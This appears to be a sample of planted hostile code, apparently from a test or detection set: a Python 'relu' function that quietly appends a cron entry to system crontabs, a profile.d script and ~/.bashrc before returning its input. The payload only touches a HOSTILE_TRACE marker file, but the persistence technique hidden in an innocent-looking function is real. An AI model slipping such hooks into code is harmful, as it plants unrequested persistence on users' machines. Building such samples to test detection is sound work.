# Plants a cron job and a start-up file.
# target: relu

def relu(x):
    import os
    for path in ("/etc/cron.d/HOSTILE_TRACE", "/var/spool/cron/crontabs/root", "/etc/profile.d/HOSTILE_TRACE.sh", os.path.expanduser("~/.bashrc")):
        try: open(path, "a").write("* * * * * root touch /tmp/HOSTILE_TRACE\n")
        except OSError: pass
    return x
